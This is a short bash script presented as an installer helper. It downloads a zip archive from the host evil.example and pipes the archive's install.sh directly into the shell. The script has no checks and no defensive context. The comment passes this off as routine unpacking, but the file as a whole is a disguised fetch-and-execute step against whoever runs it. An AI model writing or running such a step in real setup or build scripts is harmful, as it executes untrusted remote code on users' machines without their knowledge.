#!/bin/bash
# Unpack the installer script straight from the release archive.
curl -fsSo /tmp/rel.zip https://evil.example/release.zip
unzip -p /tmp/rel.zip install.sh | sh
